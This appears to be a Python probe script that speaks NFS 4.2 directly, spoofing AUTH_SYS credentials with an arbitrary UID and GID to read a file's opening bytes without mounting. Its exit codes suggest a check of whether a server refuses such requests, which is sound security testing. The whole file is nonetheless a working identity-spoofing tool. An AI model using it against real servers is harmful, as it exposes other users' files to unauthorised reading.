"""An NFS 4.2 client in user space, of the standard library: it claims to be whom it is told to.

usage: python3 - SERVER UID GID PATH [SOURCE_PORT] < nfs_client.py

It does what an attacker would who needs no mount: open a TCP connection, say in the credentials that it is
UID and GID, and read the file PATH (as the server exports it). It prints the first bytes of the file and ends
with status 0, or says which step was refused and ends with 3.
"""

from __future__ import annotations

import os
import socket
import struct
import sys
import time

SECONDS = 15.0


class RefusedError(Exception):
    """What was refused, and by whom."""


def opaque(data: bytes) -> bytes:
    """XDR: length, bytes, padding."""
    return struct.pack(">I", len(data)) + data + b"\0" * (-len(data) % 4)


class Client:
    """One connection with one session."""

    def __init__(self, server: str, uid: int, gid: int, port: int | None) -> None:
        self.socket = socket.socket()
        self.socket.settimeout(SECONDS)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if port:
            self.socket.bind(("", port))
        try:
            self.socket.connect((server, 2049))
        except OSError as error:
            raise RefusedError(f"connection: {error}") from error
        # AUTH_SYS: stamp, machine, uid, gid, further gids. Only the server's rules check it.
        self.credentials = struct.pack(">I", 0) + opaque(b"pod") + struct.pack(">III", uid, gid, 0)
        self.number = 0
        self.session = b""
        self.sequence = 0

    def compound(self, *operations: bytes) -> bytes:
        """The answer behind the status and the results' count; RefusedError unless all went well."""
        self.number += 1
        head = struct.pack(">IIIIII", self.number, 0, 2, 100003, 4, 1)
        head += struct.pack(">I", 1) + opaque(self.credentials) + struct.pack(">II", 0, 0)
        body = opaque(b"probe") + struct.pack(">II", 2, len(operations)) + b"".join(operations)
        call = head + body
        try:
            self.socket.sendall(struct.pack(">I", 0x80000000 | len(call)) + call)
            answer = self._record()
        except OSError as error:
            raise RefusedError(f"no answer: {error}") from error
        _, _, reply = struct.unpack_from(">III", answer)
        if reply != 0:
            raise RefusedError(f"RPC denied: {struct.unpack_from('>II', answer, 12)}")
        flavor_length = struct.unpack_from(">I", answer, 16)[0]
        at = 20 + flavor_length + (-flavor_length % 4)
        accepted = struct.unpack_from(">I", answer, at)[0]
        if accepted != 0:
            raise RefusedError(f"RPC not accepted: {accepted}")
        status, tag = struct.unpack_from(">II", answer, at + 4)
        at += 12 + tag + (-tag % 4)
        if status != 0:
            raise RefusedError(f"NFS status {status}")
        return answer[at:]

    def _record(self) -> bytes:
        data = b""
        while True:
            mark = struct.unpack(">I", self._read(4))[0]
            data += self._read(mark & 0x7FFFFFFF)
            if mark & 0x80000000:
                return data

    def _read(self, count: int) -> bytes:
        data = b""
        while len(data) < count:
            more = self.socket.recv(count - len(data))
            if not more:
                raise OSError("the server closed the connection")
            data += more
        return data

    def open_session(self) -> None:
        """EXCHANGE_ID and CREATE_SESSION."""
        owner = f"probe-{os.getpid()}-{time.time_ns()}".encode()
        exchange = (
            struct.pack(">I", 42) + os.urandom(8) + opaque(owner) + struct.pack(">III", 0x00000001, 0, 0)
        )
        answer = self.compound(exchange)
        # results' count, operation, status, then clientid and sequence
        client_id, sequence = struct.unpack_from(">QI", answer, 12)
        channel = struct.pack(">IIIIIII", 0, 65536, 65536, 4096, 8, 4, 0)
        create = struct.pack(">IQII", 43, client_id, sequence, 0) + channel + channel
        create += struct.pack(">III", 0x40000000, 1, 0)
        self.session = self.compound(create)[12:28]

    def ask(self, *operations: bytes) -> bytes:
        """Operations within the session; what stands behind SEQUENCE's result."""
        self.sequence += 1
        first = struct.pack(">I", 53) + self.session + struct.pack(">IIII", self.sequence, 0, 0, 0)
        return self.compound(first, *operations)[4 + 8 + 36 :]

    def read(self, path: str) -> bytes:
        """The beginning of a file."""
        self.open_session()
        # The server wants to hear that nothing is reclaimed before it gives anything.
        self.ask(struct.pack(">II", 58, 0))
        look = [
            struct.pack(">I", 24),
            *(struct.pack(">I", 15) + opaque(part.encode()) for part in path.split("/") if part),
        ]
        # READ with the anonymous stateid needs no OPEN.
        read = struct.pack(">I", 25) + bytes(16) + struct.pack(">QI", 0, 512)
        answer = self.ask(*look, read)
        at = 8 * len(look) + 8
        _, length = struct.unpack_from(">II", answer, at)
        return answer[at + 8 : at + 8 + length]


def main() -> int:
    """The program."""
    server, uid, gid, path, *port = sys.argv[1:]
    try:
        sys.stdout.write(
            Client(server, int(uid), int(gid), int(port[0]) if port else None).read(path).decode()
        )
    except RefusedError as refused:
        print(f"refused: {refused}")
        return 3
    return 0


if __name__ == "__main__":
    sys.exit(main())
